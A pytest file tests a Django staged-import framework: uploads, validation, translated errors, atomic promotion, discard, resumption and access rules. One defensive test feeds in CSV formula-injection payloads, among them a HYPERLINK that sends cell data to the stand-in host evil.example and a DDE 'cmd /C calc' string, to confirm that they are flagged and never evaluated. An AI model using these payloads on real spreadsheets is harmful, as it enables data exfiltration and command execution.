"""Staged imports end to end through the services (issue #3 point 5): upload, validation into the
staging table, the report with translated messages, all-or-nothing promotion, discard, formula
cells, resuming a stalled validation, and who may see a batch."""

from __future__ import annotations

import datetime as dt

import pytest
import time_machine
from django.utils import timezone, translation

from kssp.core.exceptions import ApplicationError, Conflict, NotFound, PermissionDenied
from kssp.core.imports import services
from kssp.core.imports.messages import render_all
from kssp.core.imports.models import ImportBatch, ImportSource, ImportStatus, StagedRow
from kssp.core.imports.selectors import import_batch_get_visible_to, import_batch_list_visible_to, staged_rows_of
from kssp.core.imports.tests.conftest import csv_bytes, sample_row, xlsx_bytes
from kssp.core.imports.validation import validate_batch
from kssp.core.models import AuditEvent

pytestmark = pytest.mark.django_db


def errors_of(batch, row_number, language="en"):
    row = StagedRow.objects.get(batch=batch, row_number=row_number)
    with translation.override(language):
        return {m["field"]: m["message"] for m in render_all(row.errors)}


# --- happy paths -------------------------------------------------------------------------------------


def test_csv_is_validated_then_promoted_through_the_record_type_s_service(world, upload, sample_model):
    person = world.kp_investigator
    rows = [sample_row(1, kind="lookout", classification=2, handling_code="H2", valid_until="2099-12-31",
                         contains_personal_data="po"),
            sample_row(2, kind="Njoftim", classification="Restricted")]  # a label, in Albanian or English
    batch = upload(person, csv_bytes(rows))
    assert (batch.status, batch.rows_total, batch.rows_done, batch.rows_valid, batch.rows_invalid) == (
        ImportStatus.VALIDATED, 2, 2, 2, 0)
    assert not sample_model.objects.unscoped(reason="test").exists()  # staged only

    batch = services.import_batch_promote(actor=person.actor, batch=batch)

    assert (batch.status, batch.records_created) == (ImportStatus.PROMOTED, 2)
    first, second = sample_model.objects.unscoped(reason="test").order_by("title")
    assert (first.kind, first.classification, first.handling_code, first.valid_until, first.contains_personal_data) == (
        "lookout", 2, "H2", dt.date(2099, 12, 31), True)
    assert (second.kind, second.classification, second.handling_code) == ("notice", 1, "")
    assert first.owner_unit_id == person.membership.unit_id and first.created_by_id == person.user.pk
    assert AuditEvent.objects.filter(event_type="samplerecord.created").count() == 2
    assert AuditEvent.objects.filter(event_type="import.promoted", target_public_id=batch.public_id).count() == 1
    assert not ImportSource.objects.filter(batch=batch).exists()  # the file is not kept after promotion


def test_xlsx_is_validated_and_promoted(world, upload, sample_model):
    person = world.kp_investigator
    content = xlsx_bytes([
        ["alert", "Armë e vjedhur", "Pistoletë CZ 99, seria 12345", 1, "H0", dt.date(2099, 1, 31), 1],
        ["notice", "Тест ћирилица", "Текст", 0, None, None, 0],
    ])
    batch = upload(person, content, name="lista.xlsx")
    assert (batch.file_format, batch.status, batch.rows_valid) == ("xlsx", ImportStatus.VALIDATED, 2)
    services.import_batch_promote(actor=person.actor, batch=batch)
    titles = set(sample_model.objects.unscoped(reason="test").values_list("title", flat=True))
    assert titles == {"Armë e vjedhur", "Тест ћирилица"}
    assert sample_model.objects.unscoped(reason="test").get(title="Armë e vjedhur").valid_until == dt.date(2099, 1, 31)


def test_upload_is_audited_and_counted_before_validation(world):
    person = world.kp_investigator
    batch = services.import_batch_create(actor=person.actor, import_type_code="samples", filename="C:\\temp\\a.csv",
                                         content=csv_bytes([sample_row(1)]))
    assert (batch.status, batch.rows_total, batch.filename) == (ImportStatus.UPLOADED, 1, "a.csv")
    event = AuditEvent.objects.get(event_type="import.uploaded")
    assert event.target_public_id == batch.public_id and event.payload["after"]["rows"] == 1


# --- bad rows ----------------------------------------------------------------------------------------


def test_bad_rows_are_reported_per_field_with_translated_messages(world, upload, sample_model):
    person = world.kp_officer  # cleared for RESTRICTED only
    rows = [
        sample_row(1),
        sample_row(2, title="", kind="memo"),
        sample_row(3, classification=3, valid_until="2001-01-01"),
        sample_row(4, valid_until="31/02/2030", contains_personal_data="maybe", classification="x"),
    ]
    batch = upload(person, csv_bytes(rows))
    assert (batch.status, batch.rows_valid, batch.rows_invalid) == (ImportStatus.INVALID, 1, 3)
    assert errors_of(batch, 2) == {
        "title": "This column is required.", "kind": "“memo” is not one of: lookout, notice, alert.",
    }
    assert errors_of(batch, 3) == {
        "classification": "You cannot mark a record above your own security clearance.",
        "valid_until": "The date is in the past.",
    }
    assert set(errors_of(batch, 4)) == {"valid_until", "contains_personal_data", "classification"}
    # The same stored messages read in Albanian and Serbian (the catalogue translates them when shown).
    for language in ("sq", "sr-latn"):
        with translation.override(language):
            expected = translation.gettext("This column is required.")
        assert errors_of(batch, 2, language)["title"] == expected
    # Only the bad rows, in order, through the report's filter.
    assert list(staged_rows_of(batch=batch, filters={"outcome": "errors"}).values_list("row_number", flat=True)) == [2, 3, 4]
    assert not sample_model.objects.unscoped(reason="test").exists()


def test_a_row_with_more_cells_than_the_header_is_an_error(world, upload):
    content = b"title,body\r\nA,B\r\nC,D,E\r\n"
    batch = upload(world.kp_investigator, content)
    assert batch.rows_invalid == 1 and "" in errors_of(batch, 2)


def test_promotion_is_refused_while_any_row_is_invalid(world, upload, sample_model):
    person = world.kp_investigator
    batch = upload(person, csv_bytes([sample_row(1), sample_row(2, title="")]))
    with pytest.raises(ApplicationError) as refused:
        services.import_batch_promote(actor=person.actor, batch=batch)
    assert refused.value.code == "not_promotable" and "1 row has errors" in str(refused.value.message)
    assert not sample_model.objects.unscoped(reason="test").exists()
    batch.refresh_from_db()
    assert batch.status == ImportStatus.INVALID


# --- all or nothing -----------------------------------------------------------------------------------


def test_a_refusal_during_promotion_leaves_no_live_record(world, upload, sample_model):
    from django.apps import apps

    person = world.kp_investigator
    rows = [sample_row(n, classification=1) for n in range(1, 6)] + [sample_row(6, classification=3)]
    batch = upload(person, csv_bytes(rows))
    assert batch.status == ImportStatus.VALIDATED
    # The investigator's clearance drops to CONFIDENTIAL after validation: the service refuses row 6.
    apps.get_model("accounts", "Clearance").objects.filter(user=person.user).update(level=2)
    audit_before = AuditEvent.objects.count()

    with pytest.raises(ApplicationError) as refused:
        services.import_batch_promote(actor=person.actor, batch=batch)

    assert refused.value.code == "promotion_failed"
    assert "Row 6" in str(refused.value.message) and "clearance" in str(refused.value.message)
    assert not sample_model.objects.unscoped(reason="test").exists()  # rows 1-5 were rolled back with row 6
    assert AuditEvent.objects.count() == audit_before  # not even their audit events remain
    batch.refresh_from_db()
    assert batch.status == ImportStatus.VALIDATED and batch.failure["p"]["row"] == 6
    assert ImportSource.objects.filter(batch=batch).exists()

    # Cleared again: the same batch imports completely.
    apps.get_model("accounts", "Clearance").objects.filter(user=person.user).update(level=3)
    batch = services.import_batch_promote(actor=person.actor, batch=batch)
    assert batch.status == ImportStatus.PROMOTED and sample_model.objects.unscoped(reason="test").count() == 6 and batch.failure is None


def test_a_type_whose_promote_fails_half_way_leaves_nothing(world, upload, sample_model, sample_import_type):
    import dataclasses

    from kssp.core.imports.registry import register_import_type
    from kssp.core.testing.recordkind.services import samplerecord_create

    def promote_then_break(actor, rows):  # a type promoting row by row through its service, in the framework's transaction
        count = 0
        for row in rows:
            samplerecord_create(actor=actor, **row.values)
            count += 1
            if count == 3:
                raise ApplicationError("disk quota", fields={"title": ["The archive refused it."]})
        return count

    register_import_type(dataclasses.replace(sample_import_type, code="samples_broken", promote=promote_then_break, writes=None))
    try:
        person = world.kp_investigator
        batch = upload(person, csv_bytes([sample_row(n) for n in range(1, 6)]), code="samples_broken")
        with pytest.raises(ApplicationError, match="Row 3 was refused: The archive refused it."):
            services.import_batch_promote(actor=person.actor, batch=batch)
        assert not sample_model.objects.unscoped(reason="test").exists()
    finally:
        from kssp.core.imports import registry

        registry._types.pop("samples_broken", None)


def test_promoting_twice_is_refused_and_creates_nothing_more(world, upload, sample_model):
    person = world.kp_investigator
    batch = upload(person, csv_bytes([sample_row(1)]))
    services.import_batch_promote(actor=person.actor, batch=batch)
    with pytest.raises(ApplicationError, match="already imported"):
        services.import_batch_promote(actor=person.actor, batch=batch)
    assert sample_model.objects.unscoped(reason="test").count() == 1


# --- discard ----------------------------------------------------------------------------------------------


def test_discard_deletes_the_staged_rows_and_the_file_and_is_audited(world, upload, sample_model):
    person = world.kp_investigator
    batch = upload(person, csv_bytes([sample_row(1), sample_row(2, title="")]))
    batch = services.import_batch_discard(actor=person.actor, batch=batch)
    assert batch.status == ImportStatus.DISCARDED and batch.discarded_by_id == person.user.pk
    assert not StagedRow.objects.filter(batch=batch).exists() and not ImportSource.objects.filter(batch=batch).exists()
    assert AuditEvent.objects.filter(event_type="import.discarded", target_public_id=batch.public_id).exists()
    with pytest.raises(ApplicationError, match="discarded"):
        services.import_batch_promote(actor=person.actor, batch=batch)
    with pytest.raises(ApplicationError, match="discarded"):
        services.import_batch_discard(actor=person.actor, batch=batch)
    assert not sample_model.objects.unscoped(reason="test").exists()


def test_discarding_while_the_worker_runs_stops_it_at_the_next_chunk(world, sample_model):
    person = world.kp_investigator
    batch = services.import_batch_create(actor=person.actor, import_type_code="samples", filename="a.csv",
                                         content=csv_bytes([sample_row(n) for n in range(1, 31)]))

    def discard_after_first(index, rows):
        if index == 1:
            services.import_batch_discard(actor=person.actor, batch=batch)

    outcome = validate_batch(batch.pk, chunk_rows=10, on_chunk=discard_after_first)
    assert outcome == "lost"
    batch.refresh_from_db()
    assert batch.status == ImportStatus.DISCARDED
    assert not StagedRow.objects.filter(batch=batch).exists()


# --- formula cells ---------------------------------------------------------------------------------------


def test_formula_cells_are_text_flagged_where_implausible_and_never_evaluated(world, upload, sample_model):
    person = world.kp_investigator
    rows = [
        sample_row(1, title='=HYPERLINK("http://evil.example/?x="&A1,"Click")'),
        sample_row(2, body="=1+2"),
        sample_row(3, classification="=0+1"),
        sample_row(4, body="-2+3+cmd|' /C calc'!A0"),
    ]
    batch = upload(person, csv_bytes(rows))
    assert (batch.rows_invalid, batch.rows_flagged) == (2, 2)
    assert "looks like a spreadsheet formula" in errors_of(batch, 1)["title"]
    assert "looks like a spreadsheet formula" in errors_of(batch, 3)["classification"]
    row2 = StagedRow.objects.get(batch=batch, row_number=2)
    assert not row2.has_errors and row2.has_warnings and row2.cleaned["body"] == "=1+2"

    # Corrected titles: the free-text bodies stay exactly as typed, never computed.
    rows[0]["title"], rows[2]["classification"] = "Link", "1"
    batch = upload(person, csv_bytes(rows))
    services.import_batch_promote(actor=person.actor, batch=batch)
    assert set(sample_model.objects.unscoped(reason="test").values_list("body", flat=True)) >= {"=1+2", "-2+3+cmd|' /C calc'!A0"}


def test_an_xlsx_formula_is_read_as_its_text(world, upload):
    batch = upload(world.kp_investigator, xlsx_bytes([["notice", "=SUM(1,2)", "Text", 1]]), name="f.xlsx")
    assert batch.rows_invalid == 1
    assert StagedRow.objects.get(batch=batch).raw["title"] == "=SUM(1,2)"


# --- resuming --------------------------------------------------------------------------------------------


def test_a_stalled_validation_can_be_resumed_after_the_lease_expires(world, sample_model, django_capture_on_commit_callbacks):
    person = world.kp_investigator
    batch = services.import_batch_create(actor=person.actor, import_type_code="samples", filename="a.csv",
                                         content=csv_bytes([sample_row(n) for n in range(1, 26)]))

    class Died(Exception):
        pass

    def die_in_third_chunk(index, rows):
        if index == 3:
            raise Died

    with pytest.raises(Died):
        validate_batch(batch.pk, chunk_rows=10, on_chunk=die_in_third_chunk)
    batch.refresh_from_db()
    assert (batch.status, batch.rows_done, batch.last_row_number) == (ImportStatus.VALIDATING, 20, 20)

    with pytest.raises(Conflict):  # the worker's lease is still fresh
        services.import_batch_resume(actor=person.actor, batch=batch)
    with time_machine.travel(timezone.now() + dt.timedelta(minutes=5)), django_capture_on_commit_callbacks(execute=True):
        services.import_batch_resume(actor=person.actor, batch=batch)
    batch.refresh_from_db()
    assert (batch.status, batch.rows_done, batch.rows_valid, batch.attempts) == (ImportStatus.VALIDATED, 25, 25, 2)
    assert list(StagedRow.objects.filter(batch=batch).values_list("row_number", flat=True)) == list(range(1, 26))
    assert AuditEvent.objects.filter(event_type="import.resumed").count() == 1


def test_the_sweeper_resumes_stale_validations_only(world):
    from kssp.core.schedule import run_periodic

    person = world.kp_investigator
    stale = services.import_batch_create(actor=person.actor, import_type_code="samples", filename="a.csv",
                                         content=csv_bytes([sample_row(1)]))
    later = timezone.now() + dt.timedelta(minutes=5)
    with time_machine.travel(later):
        fresh = services.import_batch_create(actor=person.actor, import_type_code="samples", filename="b.csv",
                                             content=csv_bytes([sample_row(1)]))
        outcome = run_periodic(only="imports.resume")
    assert outcome["imports.resume"] == {"resumed": 1, "promotions_abandoned": 0}
    stale.refresh_from_db()
    fresh.refresh_from_db()
    assert stale.status == ImportStatus.VALIDATED and fresh.status == ImportStatus.UPLOADED


def test_a_second_worker_does_not_take_a_live_lease(world):
    person = world.kp_investigator
    batch = services.import_batch_create(actor=person.actor, import_type_code="samples", filename="a.csv",
                                         content=csv_bytes([sample_row(n) for n in range(1, 21)]))
    seen = []

    def second_worker(index, rows):
        if index == 1:
            seen.append(validate_batch(batch.pk))

    assert validate_batch(batch.pk, chunk_rows=10, on_chunk=second_worker) == ImportStatus.VALIDATED
    assert seen == ["busy"]
    assert StagedRow.objects.filter(batch=batch).count() == 20


# --- who may see and do what -------------------------------------------------------------------------------


def test_another_institutions_batch_is_invisible(world, upload):
    batch = upload(world.customs, csv_bytes([sample_row(1)]))
    kp = world.kp_investigator.actor
    assert not import_batch_list_visible_to(actor=kp).exists()
    for call in (
        lambda: import_batch_get_visible_to(actor=kp, public_id=batch.public_id),
        lambda: services.import_batch_promote(actor=kp, batch=batch),
        lambda: services.import_batch_discard(actor=kp, batch=batch),
        lambda: services.import_batch_resume(actor=kp, batch=batch),
    ):
        with pytest.raises(NotFound):
            call()
    batch.refresh_from_db()
    assert batch.status == ImportStatus.VALIDATED


def test_a_colleague_in_the_same_unit_does_not_see_ones_batch(world, upload):
    batch = upload(world.kp_investigator, csv_bytes([sample_row(1)]))
    with pytest.raises(NotFound):
        import_batch_get_visible_to(actor=world.kp_low_clearance.actor, public_id=batch.public_id)


def test_a_type_one_may_not_use_is_a_field_error(world):
    with pytest.raises(ApplicationError) as refused:
        services.import_batch_create(actor=world.inspector.actor, import_type_code="samples", filename="a.csv",
                                     content=csv_bytes([sample_row(1)]))
    assert list(refused.value.fields) == ["import_type"]
    with pytest.raises(ApplicationError):
        services.import_batch_create(actor=world.kp_investigator.actor, import_type_code="nukes", filename="a.csv",
                                     content=csv_bytes([sample_row(1)]))
    assert not ImportBatch.objects.exists()


def test_losing_the_permission_keeps_the_batch_visible_but_not_promotable(world, upload, monkeypatch):
    import dataclasses

    person = world.kp_investigator
    batch = upload(person, csv_bytes([sample_row(1)]))
    actor = dataclasses.replace(person.actor, permissions=frozenset())
    assert import_batch_get_visible_to(actor=actor, public_id=batch.public_id) == batch
    with pytest.raises(PermissionDenied):
        services.import_batch_promote(actor=actor, batch=batch)
    services.import_batch_discard(actor=actor, batch=batch)  # one's own batch may always be dropped


def test_a_bad_file_is_a_field_error_and_stores_nothing(world):
    with pytest.raises(ApplicationError) as refused:
        services.import_batch_create(actor=world.kp_investigator.actor, import_type_code="samples", filename="a.csv",
                                     content=b"%PDF-1.4 fake")
    assert list(refused.value.fields) == ["file"]
    assert not ImportBatch.objects.exists() and not AuditEvent.objects.filter(event_type="import.uploaded").exists()


def test_a_file_over_the_size_limit_is_refused(world, settings):
    settings.KSSP = {**settings.KSSP, "IMPORT_MAX_BYTES": 1024}
    with pytest.raises(ApplicationError) as refused:
        services.import_batch_create(actor=world.kp_investigator.actor, import_type_code="samples", filename="a.csv",
                                     content=csv_bytes([sample_row(n) for n in range(100)]))
    assert refused.value.code == "too_large" and "1 MB" in refused.value.fields["file"][0]
